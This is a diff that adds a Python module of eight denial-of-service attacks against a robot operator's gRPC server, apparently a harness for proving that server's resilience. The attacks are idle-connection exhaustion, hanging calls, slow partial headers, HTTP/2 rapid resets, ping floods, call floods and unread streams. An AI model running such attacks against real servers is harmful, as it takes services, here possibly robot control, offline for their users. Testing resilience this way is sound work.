@@ -1,0 +1,221 @@
+"""The attacks: each goes on until it is killed, and says once that it is under way.
+
+Run as ``python -m proof.attacks.attackers NAME ADDRESS [AUTHORITY CERTIFICATE KEY]``.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import itertools
+import resource
+import socket
+import sys
+import threading
+import time
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any, Final
+
+import grpc
+
+from proof.attacks.wire import (
+    CONTINUATION,
+    END_HEADERS,
+    HEADERS,
+    PING,
+    PREFACE,
+    RST_STREAM,
+    SETTINGS,
+    connect,
+    frame,
+    head_of_call,
+)
+from spot_protos import operator_pb2
+
+PATH: Final = "/spot_rl.operator.v1.Operator/"
+IDLE_CONNECTIONS: Final = 3000
+HANGING_CALLS: Final = 300
+Tls = tuple[Path, Path, Path] | None
+
+
+class Attack:
+    """What one attacker knows."""
+
+    def __init__(self, address: str, tls: Tls) -> None:
+        self.address, self.tls = address, tls
+        self._sockets: list[socket.socket] = []
+
+    def open(self) -> socket.socket:
+        """One more connection, kept open."""
+        made = connect(self.address, self.tls)
+        self._sockets.append(made)
+        return made
+
+    def channel(self, number: int = 0) -> grpc.Channel:
+        """A gRPC channel with a connection of its own for each number."""
+        options = [("grpc.use_local_subchannel_pool", 1), ("attack", number)]
+        if self.tls is None:
+            return grpc.insecure_channel(self.address, options)
+        authority, certificate, key = (path.read_bytes() for path in self.tls)
+        return grpc.secure_channel(self.address, grpc.ssl_channel_credentials(authority, key, certificate), options)
+
+
+def ready() -> None:
+    """Say that it is under way."""
+    sys.stdout.write("ready\n")
+    sys.stdout.flush()
+
+
+def idle_connections(attack: Attack) -> None:
+    """Thousands of connections that say nothing; whatever is closed is opened again."""
+    for _ in range(IDLE_CONNECTIONS):
+        with contextlib.suppress(OSError):
+            attack.open()
+    ready()
+    while True:
+        with contextlib.suppress(OSError):
+            connect(attack.address).close()
+        time.sleep(0.002)
+
+
+def hanging_calls(attack: Attack) -> None:
+    """Calls of every method over many connections whose message never comes."""
+
+    def never() -> Iterator[bytes]:
+        threading.Event().wait()
+        yield b""
+
+    def hang(channel: grpc.Channel, name: str) -> Any:
+        call: Any = channel.stream_unary(PATH + name)
+        return call.future(never())
+
+    names = ("Stop", "Damp", "Attend", "GetStatus", "Arm", "SetVelocity")
+    calls: list[Any] = []
+    channels = [attack.channel(number) for number in range(10)]
+    for channel, number in itertools.product(channels, range(HANGING_CALLS // 10)):
+        calls.append(hang(channel, names[number % len(names)]))
+    time.sleep(0.5)
+    ready()
+    while True:
+        channel = channels[len(calls) % len(channels)]
+        calls.append(hang(channel, names[len(calls) % len(names)]))
+        del calls[:-1000]
+        time.sleep(0.005)
+
+
+def half_headers(attack: Attack) -> None:
+    """Connections in the middle of a call's head, a byte of it now and then."""
+    sockets = []
+    head = frame(HEADERS, 0, 1, head_of_call(PATH + "Stop")[:20])
+    for _ in range(200):
+        with contextlib.suppress(OSError):
+            one = attack.open()
+            one.sendall(PREFACE + frame(SETTINGS, 0, 0) + head)
+            sockets.append(one)
+    ready()
+    while True:
+        for one in sockets:
+            with contextlib.suppress(OSError):
+                one.sendall(frame(CONTINUATION, 0, 1, b"\x00"))
+            time.sleep(0.005)
+
+
+def connection_storm(attack: Attack) -> None:
+    """Connections that are opened and closed as fast as it goes."""
+    ready()
+    while True:
+        with contextlib.suppress(OSError):
+            one = connect(attack.address)
+            one.send(PREFACE[:3])
+            one.close()
+
+
+def rapid_resets(attack: Attack) -> None:
+    """Calls that are begun and broken off at once, as fast as the connection takes them."""
+    head, is_told = head_of_call(PATH + "GetStatus"), False
+    while True:
+        with contextlib.suppress(OSError):
+            one = connect(attack.address, attack.tls)
+            one.sendall(PREFACE + frame(SETTINGS, 0, 0))
+            if not is_told:
+                is_told = True
+                ready()
+            for number in range(1, 1 << 30, 2):
+                one.sendall(frame(HEADERS, END_HEADERS, number, head) + frame(RST_STREAM, 0, number, b"\0\0\0\x08"))
+        time.sleep(0.01)
+
+
+def pings(attack: Attack) -> None:
+    """Pings and settings without an end."""
+    is_told, many = False, (frame(PING, 0, 0, b"attacked") + frame(SETTINGS, 0, 0)) * 100
+    while True:
+        with contextlib.suppress(OSError):
+            one = connect(attack.address, attack.tls)
+            one.sendall(PREFACE + frame(SETTINGS, 0, 0))
+            if not is_told:
+                is_told = True
+                ready()
+            while True:
+                one.sendall(many)
+        time.sleep(0.01)
+
+
+def call_flood(attack: Attack) -> None:
+    """Good calls over several connections, as many at once as each takes."""
+    message = operator_pb2.GetStatusRequest().SerializeToString()
+    channels = [attack.channel(number) for number in range(8)]
+
+    def flood(channel: grpc.Channel) -> None:
+        room = threading.Semaphore(200)
+        call: Any = channel.unary_unary(PATH + "GetStatus")
+        while True:
+            room.acquire()
+            call.future(message).add_done_callback(lambda _: room.release())
+
+    for channel in channels:
+        threading.Thread(target=flood, args=(channel,), daemon=True).start()
+    time.sleep(0.5)
+    ready()
+    threading.Event().wait()
+
+
+def silent_readers(attack: Attack) -> None:
+    """Streams of status that are never read."""
+    sockets = []
+    head = head_of_call(PATH + "WatchStatus")
+    body = operator_pb2.WatchStatusRequest(rate_hz=10.0).SerializeToString()
+    message = b"\0" + len(body).to_bytes(4, "big") + body
+    for _ in range(100):
+        with contextlib.suppress(OSError):
+            one = attack.open()
+            one.sendall(
+                PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, head) + frame(0, 1, 1, message)
+            )
+            sockets.append(one)
+    ready()
+    threading.Event().wait()
+
+
+ATTACKS: Final[dict[str, Callable[[Attack], None]]] = {
+    "idle connections": idle_connections,
+    "hanging calls": hanging_calls,
+    "half headers": half_headers,
+    "connection storm": connection_storm,
+    "rapid resets": rapid_resets,
+    "pings": pings,
+    "call flood": call_flood,
+    "silent readers": silent_readers,
+}
+
+
+def main() -> None:
+    """Attack until killed."""
+    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
+    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+    name, address, *files = sys.argv[1:]
+    tls = (Path(files[0]), Path(files[1]), Path(files[2])) if files else None
+    ATTACKS[name](Attack(address, tls))
+
+
+if __name__ == "__main__":
+    main()
